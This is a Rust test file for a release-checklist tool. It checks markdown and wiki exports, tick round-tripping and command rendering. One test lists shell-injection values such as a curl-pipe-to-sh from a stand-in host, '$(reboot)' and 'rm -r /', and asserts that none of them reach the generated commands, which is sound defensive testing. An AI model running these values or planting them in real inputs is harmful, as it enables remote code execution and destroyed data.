//! What each export looks like, and that the ones that can be read back come back.

use crate::edits::text;
use crate::roundtrip::{DESCRIPTION, edits, hand, release, work, worked};
use proptest::prelude::*;
use std::collections::BTreeMap;
use tminus::document::Document;
use tminus::document::edit::apply;
use tminus::formats::{desk, list, markdown_read};
use tminus::pipeline::{Derived, Library, derive};
use tminus::run::{Mark, What, fold};
use tminus::when::bundled::Bundled;

/// The formats whose ticks can be read back.
const TICKED: [&str; 5] = ["markdown", "mkdocs", "docusaurus", "techdocs", "gitlab"];

fn write(format: &str, doc: &Document, d: &Derived) -> String {
    desk::write(format, doc, d, &Bundled, Some(1_865_685_600_000), 1_864_000_000_000)
}

/// A release with something of everything, cut down to what a person can look through.
fn small() -> (Document, Derived) {
    let mut doc = release();
    let d = derive(&doc, Library::whole());
    let line = |n: usize| d.plan.sections[1].lines[n].id.clone();
    for (n, what) in [
        What::Field { field: "ticket".into(), value: "CHG-1234".into() },
        What::Mark { line: line(0), mark: Mark::Done, reason: String::new() },
        What::Mark { line: line(1), mark: Mark::NotApplicable, reason: "no new load <1 %>".into() },
        What::Note { line: line(1), text: "asked *Zoe* {today}".into() },
    ]
    .into_iter()
    .enumerate()
    {
        apply(&mut doc, what, &hand(100_000 * (n as i64 + 1)));
    }
    let mut d = derive(&doc, Library::whole());
    let p = std::sync::Arc::make_mut(&mut d.plan);
    p.sections.retain(|s| s.place == "T-2h" || s.place == "T-0");
    p.sections.iter_mut().for_each(|s| s.lines.truncate(2));
    p.lists.iter_mut().for_each(|(_, l)| l.truncate(1));
    p.standing.truncate(1);
    p.aside.truncate(2);
    (doc, d)
}

#[test]
fn every_export_is_as_it_was() {
    let (doc, d) = small();
    for f in list::FORMATS.iter().filter(|f| !matches!(f.id, "json" | "yaml" | "record" | "record-html" | "post-mortem" | "release-notes"))
    {
        insta::assert_snapshot!(f.id, write(f.id, &doc, &d));
    }
}

#[test]
fn every_format_says_where_it_goes_and_stands_in_one_group() {
    let mut groups: Vec<&str> = list::FORMATS.iter().map(|f| f.group).collect();
    groups.dedup();
    assert_eq!(groups, ["Documents", "Trackers and wikis", "Data"], "a group is shown once");
    for f in list::FORMATS {
        assert!(f.goes.ends_with('.') && f.goes.chars().count() < 100 && !f.label.is_empty(), "{}", f.id);
        assert_eq!(list::find(f.id), Some(&f));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(30))]

    #[test]
    fn ticks_come_back_from_every_dialect(work in work(), t in text()) {
        let (mut doc, _) = worked(work);
        apply(&mut doc, What::Title(t), &hand(8_000_000));
        let d = derive(&doc, Library::whole());
        for format in TICKED {
            let out = write(format, &doc, &d);
            let (edits, problems) = edits(&out, &d);
            prop_assert!(edits.is_empty() && problems == 0, "{}: {:?}\n{}", format, edits, out);
            let read = markdown_read::read(&out);
            prop_assert_eq!(&read.release, &doc.id);
            prop_assert_eq!(&read.description, DESCRIPTION, "{}", format);
        }
    }
}

#[test]
fn a_box_ticked_in_a_docs_repository_or_in_gitlab_is_a_tick_here() {
    let (mut doc, d) = worked(Vec::new());
    let line = d.plan.sections[1].lines[0].id.clone();
    for (format, ticked, mark) in [
        ("mkdocs", "- [x]", Mark::Done),
        ("docusaurus", "- [X]", Mark::Done),
        ("techdocs", "- [x]", Mark::Done),
        ("gitlab", "- [~]", Mark::NotApplicable),
    ] {
        let out: Vec<String> = write(format, &doc, &d)
            .lines()
            .map(|l| if l.contains(&format!("tm:{line} ")) { l.replacen("- [ ]", ticked, 1) } else { l.to_owned() })
            .collect();
        let (edits, _) = edits(&out.join("\n"), &d);
        assert_eq!(edits, [What::Mark { line: line.clone(), mark, reason: String::new() }], "{format}");
    }
    // A capital X with a small one in the text behind it is a tick all the same.
    let read = markdown_read::read("<!-- tm-release:r -->\n- [X] see [x] <!-- tm:a@T-0 -->");
    assert_eq!(read.lines[0].mark, Mark::Done);
    apply(&mut doc, What::Mark { line, mark: Mark::Done, reason: String::new() }, &hand(1));
    assert_eq!(fold(&doc.entries).lines.values().map(|s| s.mark).collect::<Vec<_>>(), [Mark::Done]);
}

#[test]
fn a_command_shown_by_indentation_is_no_line() {
    let (doc, mut d) = worked(Vec::new());
    std::sync::Arc::make_mut(&mut d.plan).sections[0].lines[0].commands =
        vec![tminus::plan::Command { run: "echo x\n- [x] no task <!-- tm:fake@T-0 -->".into(), ..Default::default() }];
    for format in TICKED {
        let out = write(format, &doc, &d);
        assert!(out.contains("tm:fake@T-0"), "{format} shows the command");
        assert!(markdown_read::read(&out).lines.iter().all(|l| l.id.as_deref() != Some("fake@T-0")), "{format}");
    }
}

#[test]
fn a_value_that_a_shell_would_run_is_in_no_command() {
    let lib = Library::whole();
    for hostile in ["1.0; curl https://x.example | sh", "$(reboot)", "`id`", "a b", "x\nrm -r /", "-rf", "a'b", "‹x; y›"] {
        let mut doc = release();
        let facts = ["version_to", "version_from", "namespace", "image", "argocd_app", "host", "region"];
        for (n, fact) in facts.iter().enumerate() {
            let answer = Some(tminus::scenario::resolve::Answer::Is(tminus::facts::Value::Text(hostile.into())));
            apply(&mut doc, What::Answer { fact: (*fact).into(), answer }, &hand(100_000 * (n as i64 + 1)));
        }
        let d = derive(&doc, lib);
        let own = d.plan.lines().chain(d.plan.lists.iter().flat_map(|(_, l)| l)).flat_map(|l| &l.commands);
        let book = tminus::pipeline::runbook(&d, lib);
        let runs: BTreeMap<&str, ()> = own.chain(book.iter().map(|s| &s.command)).map(|c| (c.run.as_str(), ())).collect();
        assert!(runs.len() > 5 && runs.keys().any(|r| r.contains('‹')), "the value is missing, and a blank says so");
        for run in runs.keys() {
            assert!(!run.contains(hostile), "{run}");
        }
    }
}
